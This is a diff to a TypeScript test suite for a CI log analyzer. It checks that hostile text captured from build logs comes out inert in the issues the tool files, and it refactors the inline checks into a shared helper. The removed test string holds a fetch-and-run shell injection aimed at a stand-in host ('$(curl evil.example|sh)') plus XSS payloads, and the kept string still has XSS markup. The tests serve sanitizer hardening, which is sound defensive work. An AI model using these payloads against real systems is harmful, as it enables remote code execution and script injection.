@@ -4,8 +4,7 @@ import { wrapInCi } from '../../fixtures/src/ci-wrap.js';
 import { listEcosystemCases } from '../../fixtures/src/ecosystems.js';
 import { type Analysis, analyzeLog } from '../src/analyzer/analyze.js';
 import { BUILTIN_RULES } from '../src/analyzer/builtin-rules.js';
-import { factLines, keyLinesBlock, nextStep } from '../src/filing/issue-body.js';
-import { createSanitizer } from '../src/text/sanitize.js';
+import { expectInertIssueText, HOSTILE } from './inert-issue-text.js';
 
 /**
  * The MUnit, specs2, Carthage, Julia and Nix rules attacked from outside: output of other tools
@@ -130,7 +129,7 @@ describe("Julia's thrown test failure names no test", () => {
 });
 
 describe("the new rules' facts reach an issue only through the sanitizer", () => {
-  const E = '@maintainer <img src=x onerror=alert(1)> [x](javascript:alert(1)) $(curl evil.example|sh) #123';
+  const E = HOSTILE;
   // The same without spaces, for facts captured as one \S+ word.
   const W = '@maintainer<img/src=x/onerror=alert(1)>[x](javascript:alert(1))$(curl)#123';
   const logs: Array<[string, string]> = [
@@ -147,7 +146,6 @@ describe("the new rules' facts reach an issue only through the sanitizer", () =>
       `Building universal frameworks with common architectures is not possible. The device and simulator slices for "${E}" both build for: arm64\n`,
     ],
   ];
-  const LIVE = /(^|[^\w`])@maintainer\b|<img|\]\(javascript:|\$\(curl|(^|[^\w&`])#123\b/;
 
   for (const [rule, log] of logs) {
     it(`${rule}: its facts, next step, key lines and title carry no live markup`, async () => {
@@ -156,16 +154,7 @@ describe("the new rules' facts reach an issue only through the sanitizer", () =>
       expect(f.rule).toBe(rule);
       // The facts hold the hostile text: what follows is about the output, not a lucky miss.
       expect(JSON.stringify(f.facts)).toMatch(/@maintainer/);
-      const s = createSanitizer();
-      const out = [...factLines(s, f.facts), nextStep(s, a.category, f.facts), keyLinesBlock(s, f)].join(
-        '\n',
-      );
-      // The key lines are a fenced block (inert as a whole); everything else is markdown.
-      const outsideCode = out.replace(/^(`{3,}|~{3,})[^\n]*\n[\s\S]*?\n\1\s*$/gm, '');
-      expect(outsideCode).not.toBe(out);
-      expect(outsideCode, out).not.toMatch(LIVE);
-      // A title is plain text: only mentions and issue references would act there.
-      expect(s.title(f.title)).not.toMatch(/(^|[^\w`])@maintainer\b|(^|[^\w&`])#123\b/);
+      expectInertIssueText(a);
     });
   }
 });
